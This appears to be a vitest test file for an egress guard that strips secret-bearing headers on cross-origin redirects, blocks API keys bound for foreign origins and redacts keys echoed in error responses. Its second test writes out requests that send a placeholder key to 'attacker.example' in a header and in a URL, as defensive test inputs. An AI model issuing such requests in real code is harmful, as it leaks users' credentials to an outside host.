import { describe, expect, it } from "vitest";
import { guardFetch } from "../../../src/security/egress-guard.js";
import { SecretPolicy } from "../../../src/security/secret-policy.js";

const KEY = "sk-openai-0123456789-secret";

/** A stand-in network: records what each request carried, answers from a table by URL. */
function network(routes: Record<string, () => Response>) {
  const sent: Array<{ url: string; authorization: string | null }> = [];
  const fetchFn = (async (input: Request) => {
    sent.push({ url: input.url, authorization: input.headers.get("authorization") });
    return (routes[input.url] ?? (() => new Response("not found", { status: 404 })))();
  }) as unknown as typeof fetch;
  return { sent, fetchFn };
}

describe("guardFetch", () => {
  const policy = new SecretPolicy((name) => ({ OPENAI_API_KEY: KEY })[name]);

  it("follows a redirect to another origin without the headers that carried a secret", async () => {
    const { sent, fetchFn } = network({
      "https://api.openai.com/v1/files/x": () => new Response(null, { status: 302, headers: { location: "https://cdn.example/blob" } }),
      "https://cdn.example/blob": () => new Response("bytes"),
    });
    const response = await guardFetch(fetchFn, policy)("https://api.openai.com/v1/files/x", { headers: { authorization: `Bearer ${KEY}` } });
    expect(await response.text()).toBe("bytes");
    expect(sent).toEqual([
      { url: "https://api.openai.com/v1/files/x", authorization: `Bearer ${KEY}` },
      { url: "https://cdn.example/blob", authorization: null },
    ]);
  });

  it("refuses, unsent, a secret bound for a foreign origin, in a header or in the URL", async () => {
    const { sent, fetchFn } = network({});
    const guarded = guardFetch(fetchFn, policy);
    await expect(guarded("https://attacker.example/v1", { headers: { "x-api-key": KEY } })).rejects.toThrow(/'OPENAI_API_KEY' to https:\/\/attacker\.example/);
    await expect(guarded(`https://attacker.example/v1?key=${KEY}`)).rejects.toThrow(/OPENAI_API_KEY/);
    expect(sent).toEqual([]);
  });

  it("passes keyless calls to public hosts, and redacts secrets echoed in error bodies", async () => {
    const { fetchFn } = network({
      "https://example.com/data.jsonl": () => new Response("{}"),
      "https://api.openai.com/v1/chat": () => new Response(`invalid key ${KEY}`, { status: 401, headers: { "content-length": "40" } }),
    });
    const guarded = guardFetch(fetchFn, policy);
    expect(await (await guarded("https://example.com/data.jsonl")).text()).toBe("{}");
    const failed = await guarded("https://api.openai.com/v1/chat", { headers: { authorization: `Bearer ${KEY}` } });
    expect(failed.status).toBe(401);
    expect(await failed.text()).toBe("invalid key [redacted OPENAI_API_KEY]");
  });
});
